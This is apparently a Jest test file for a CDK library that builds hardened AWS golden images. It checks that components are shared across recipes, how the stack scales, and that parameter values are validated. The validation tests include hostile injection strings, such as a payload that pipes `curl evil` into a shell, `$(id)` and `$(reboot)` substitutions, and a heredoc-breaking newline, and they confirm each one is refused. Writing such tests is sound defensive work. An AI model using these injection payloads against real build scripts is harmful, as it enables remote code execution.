import { Aws, Stack } from 'aws-cdk-lib';
import { Template } from 'aws-cdk-lib/assertions';
import * as s3 from 'aws-cdk-lib/aws-s3';
import { Construct } from 'constructs';
import { GoldenImage } from '../../src/golden-image';
import { CisLevel, Hardening, HardenedBaseRecipe, HardenedBaseRecipeProps, OperatingSystem, StigLevel } from '../../src/hardened';
import { scriptParameterValue } from '../../src/hardened/toe';
import { newStack } from '../util';

/** Ubuntu 22.04 CIS Level 1 with the CloudWatch agent: the benchmark image. */
const UBUNTU_CIS1: HardenedBaseRecipeProps = { operatingSystem: OperatingSystem.UBUNTU_22_04, hardening: Hardening.cis(CisLevel.LEVEL_1) };

/** `count` hardened images, each with its own recipe name (and so its own log group prefix). */
function hardenedImages(
  stack: Stack, count: number, props: (i: number) => HardenedBaseRecipeProps = () => UBUNTU_CIS1, revocation?: boolean,
): HardenedBaseRecipe[] {
  return Array.from({ length: count }, (_, i) => {
    const recipe = new HardenedBaseRecipe(stack, `Recipe${i}`, { recipeName: `ubuntu-${i}`, ...props(i) });
    new GoldenImage(stack, `Image${i}`, { recipe, imageName: `ubuntu-${i}`, revocation });
    return recipe;
  });
}

type Resources = Record<string, { Type: string; Properties: Record<string, any> }>;
const ofType = (template: Template, type: string): Resources => template.findResources(type) as Resources;

describe('recipes of a stack share their components', () => {
  test('10 hardened images of one OS and hardening have the components of 1, and each adds only its recipe, distribution, pipeline and revocation (role, policy, document)', () => {
    const one = newStack();
    hardenedImages(one, 1);
    const ten = newStack();
    hardenedImages(ten, 10);
    const [templateOne, templateTen] = [Template.fromStack(one), Template.fromStack(ten)];
    const components = ofType(templateOne, 'AWS::ImageBuilder::Component');
    expect(Object.keys(components)).toHaveLength(8); // ssm-agent, cloudwatch-agent-config, 5 CIS sections, checks
    expect(ofType(templateTen, 'AWS::ImageBuilder::Component')).toEqual(components);
    templateTen.resourceCountIs('AWS::ImageBuilder::ImageRecipe', 10);
    const count = (template: Template) => Object.keys(template.toJSON().Resources).length;
    expect(count(templateTen) - count(templateOne)).toBe(9 * 6);
  });

  test('every recipe references the one component, each with its own log group prefix as the parameter value', () => {
    const stack = newStack();
    const [a, b] = hardenedImages(stack, 2, i => ({ ...UBUNTU_CIS1, cloudWatchAgent: i === 1 ? { logGroupPrefix: '/org/team-b' } : undefined }));
    const [inA, inB] = [inspect2(stack, a), inspect2(stack, b)];
    const entry = (synth: typeof inA) => synth.entries[synth.components.indexOf('cloudwatch-agent-config')];
    expect(entry(inA).ComponentArn).toEqual(entry(inB).ComponentArn);
    expect(entry(inA).Parameters).toEqual([{ Name: 'LogGroupPrefix', Value: ['/golden-ami/ubuntu-0'] }]);
    expect(entry(inB).Parameters).toEqual([{ Name: 'LogGroupPrefix', Value: ['/org/team-b'] }]);
    expect(JSON.parse(b.cloudWatchAgentConfig!).logs.logs_collected.files.collect_list[0].log_group_name).toBe('/org/team-b/system');
    // No recipe's own value is in a shared document.
    for (const component of Object.values(ofType(Template.fromStack(stack), 'AWS::ImageBuilder::Component'))) {
      expect(component.Properties.Data).not.toMatch(/ubuntu-0|ubuntu-1|team-b/);
    }
  });

  test('the SCAP report component is shared: bucket, prefix and recipe name are each recipe\'s parameters', () => {
    const stack = newStack();
    const bucket = s3.Bucket.fromBucketName(stack, 'Evidence', 'audit-evidence');
    const recipes = ['win-a', 'win-b'].map(name => {
      const recipe = new HardenedBaseRecipe(stack, name, {
        recipeName: name,
        operatingSystem: OperatingSystem.WINDOWS_SERVER_2022,
        hardening: Hardening.stig(StigLevel.HIGH),
        scapScan: { reportBucket: bucket },
      });
      const image = new GoldenImage(stack, `${name}-image`, { recipe });
      recipe.grantBuildAccess(image.infrastructure.instanceRole);
      return recipe;
    });
    const entries = recipes.map(recipe => inspect2(stack, recipe)).map(synth => synth.entries[synth.components.indexOf('scap-report')]);
    expect(entries[0].ComponentArn).toEqual(entries[1].ComponentArn);
    expect(entries.map(entry => entry.Parameters)).toEqual(['win-a', 'win-b'].map(name => [
      { Name: 'ReportBucket', Value: ['audit-evidence'] },
      { Name: 'ReportPrefix', Value: ['scap-reports/'] },
      { Name: 'RecipeName', Value: [name] },
    ]));
  });

  test('changing one recipe\'s value changes neither the components nor the other recipe', () => {
    const synth = (prefixOfA: string) => {
      const stack = newStack();
      hardenedImages(stack, 2, i => ({ ...UBUNTU_CIS1, cloudWatchAgent: { logGroupPrefix: i === 0 ? prefixOfA : '/org/b' } }));
      const template = Template.fromStack(stack);
      const recipes = Object.values(ofType(template, 'AWS::ImageBuilder::ImageRecipe'));
      return { components: ofType(template, 'AWS::ImageBuilder::Component'), a: recipes.find(r => r.Properties.Name === 'ubuntu-0')!, b: recipes.find(r => r.Properties.Name === 'ubuntu-1')! };
    };
    const before = synth('/org/a');
    const after = synth('/org/a2');
    expect(after.components).toEqual(before.components);
    expect(after.b).toEqual(before.b);
    expect(after.a.Properties.Version).not.toBe(before.a.Properties.Version);
  });

  test('recipes with different content get their own components, named uniquely per content and stably across apps', () => {
    const synth = () => {
      const stack = newStack();
      hardenedImages(stack, 2, i => ({ ...UBUNTU_CIS1, hardening: Hardening.cis(i === 0 ? CisLevel.LEVEL_1 : CisLevel.LEVEL_2) }));
      return Object.values(ofType(Template.fromStack(stack), 'AWS::ImageBuilder::Component')).map(c => c.Properties.Name as string).sort();
    };
    const names = synth();
    // Shared: ssm-agent, cloudwatch-agent-config, checks; per level: the 5 CIS sections.
    expect(names).toHaveLength(3 + 2 * 5);
    expect(new Set(names).size).toBe(names.length);
    expect(names.filter(name => /-cis-kernel-[0-9a-f]{8}$/.test(name))).toHaveLength(2);
    for (const name of names) {
      expect(name).toMatch(/^Stack-GoldenAmiComponents-[0-9A-F]{8}-[a-z-]+-[0-9a-f]{8}$/);
      expect(name.length).toBeLessThanOrEqual(126);
    }
    expect(synth()).toEqual(names);
  });

  test('two stacks do not share: each creates its components under its own names', () => {
    const names = (id: string) => {
      const stack = newStack(id);
      hardenedImages(stack, 1);
      return Object.values(ofType(Template.fromStack(stack), 'AWS::ImageBuilder::Component')).map(c => c.Properties.Name as string);
    };
    const [one, two] = [names('ImagesOne'), names('ImagesTwo')];
    expect(one).toHaveLength(8);
    expect(two.filter(name => one.includes(name))).toEqual([]);
    expect(one.every(name => name.startsWith('ImagesOne-'))).toBe(true);
  });

  test('a construct of the user\'s with the reserved id is refused, naming it', () => {
    const stack = newStack();
    new Construct(stack, 'GoldenAmiComponents');
    expect(() => hardenedImages(stack, 1)).toThrow("the construct id 'GoldenAmiComponents' on stack 'Stack' is reserved for the components cdk-golden-ami recipes share: rename your construct, got a Construct");
  });
});

describe('scale', () => {
  // Revocation (on by default) adds a role, its policy and a document per image: 75 images fit
  // a stack with it, 100 without it (the stack's revocation topic and key are shared).
  test.each([[75, undefined], [100, false]])('%d hardened images (revocation: %s) synthesize in one stack, under 500 resources and 1,000,000 bytes of template', (images, revocation) => {
    const stack = newStack();
    hardenedImages(stack, images, undefined, revocation);
    const template = Template.fromStack(stack).toJSON();
    const resources = Object.keys(template.Resources).length;
    const bytes = Buffer.byteLength(JSON.stringify(template));
    expect(resources).toBeLessThan(500);
    expect(bytes).toBeLessThan(1_000_000);
  });
});

describe('values that reach a script as parameters', () => {
  const LOG_GROUP = /^[.\-_/#A-Za-z0-9]{1,512}$/;

  test.each([
    ['a quote', "/org/x'; curl evil | sh; '"],
    ['a command substitution', '/org/$(id)'],
    ['a new line that ends the here-document', '/org/x\nGOLDEN_AMI_CLOUDWATCH_CONFIG\nreboot'],
    ['a JSON quote', '/org/x"}'],
  ])('%s is refused at synth, naming the prop and the value', (_what, value) => {
    expect(() => scriptParameterValue('cloudWatchAgent.logGroupPrefix', value, LOG_GROUP))
      .toThrow(`cloudWatchAgent.logGroupPrefix reaches a build script as a component parameter and must match ${LOG_GROUP}, got: '${value}'`);
  });

  test('a hostile log group prefix or recipe name never reaches a recipe', () => {
    expect(() => hardenedImages(newStack(), 1, () => ({ ...UBUNTU_CIS1, cloudWatchAgent: { logGroupPrefix: "/x'$(reboot)'" } })))
      .toThrow("cloudWatchAgent.logGroupPrefix must be 1-512 characters of letters, digits and . - _ / #, got: '/x'$(reboot)''");
    expect(() => new HardenedBaseRecipe(newStack(), 'R', { ...UBUNTU_CIS1, recipeName: "r'$(reboot)'", cloudWatchAgent: { logGroupPrefix: '/org/r' } }))
      .toThrow(/recipeName .*got: 'r'\$\(reboot\)''/);
  });

  test('tokens pass, as with every prop: they resolve in the stack\'s own template', () => {
    const token = Aws.STACK_NAME;
    expect(scriptParameterValue('recipeName', token, /^[a-z]+$/)).toBe(token);
  });
});

/**
 * One recipe of a stack with several: its components in order (a library component by its
 * document's name, an AWS-managed one as `aws:<name>`) and its entries as in the template.
 */
function inspect2(stack: Stack, recipe: HardenedBaseRecipe) {
  const resources = Template.fromStack(stack).toJSON().Resources as Resources;
  const own = Object.values(resources).find(r => r.Type === 'AWS::ImageBuilder::ImageRecipe' && r.Properties.Name === recipe.imageRecipeName)!;
  const entries = own.Properties.Components as Array<{ ComponentArn: any; Parameters?: Array<{ Name: string; Value: unknown[] }> }>;
  const components = entries.map(entry => {
    const getAtt = entry.ComponentArn['Fn::GetAtt'];
    if (getAtt) {
      return /^name: "([^"]+)"$/m.exec(resources[getAtt[0]].Properties.Data as string)![1];
    }
    const joined = (entry.ComponentArn['Fn::Join'][1] as unknown[]).map(part => (typeof part === 'string' ? part : '')).join('');
    return `aws:${/:aws:component\/([a-z0-9-]+)\//.exec(joined)![1]}`;
  });
  return { entries, components };
}
